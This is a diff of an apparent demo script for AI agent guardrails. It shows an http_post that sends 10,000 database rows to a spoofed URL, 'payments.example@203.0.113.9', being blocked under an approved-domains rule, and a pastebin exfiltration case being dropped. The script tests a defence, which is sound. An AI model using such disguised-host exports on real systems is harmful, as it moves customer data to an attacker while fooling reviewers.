@@ -325,14 +325,14 @@ def play(server: Server, shop: Shop, screen: Screen) -> None:
         screen.say(f"  Taken back; the shop is the same, record for record: sha256 {before[:16]}…")
 
         screen.title("What leaves the house is looked at, too")
-        for url in ("https://pastebin.example/api", "https://payments.example@203.0.113.9/export"):
-            agent.may_not(
-                f"call {url}",
-                partial(call_api, url, {"rows": 10_000}),
-                "approved_domains",
-                tool="http_post",
-                arguments={"url": url, "body": {"rows": 10_000}},
-            )
+        url = "https://payments.example@203.0.113.9/export"
+        agent.may_not(
+            f"call {url}",
+            partial(call_api, url, {"rows": 10_000}),
+            "approved_domains",
+            tool="http_post",
+            arguments={"url": url, "body": {"rows": 10_000}},
+        )
         addresses = [r[0] for r in shop.ask("SELECT email FROM users LIMIT 120")]
         agent.may(
             "mail to 120 customers",
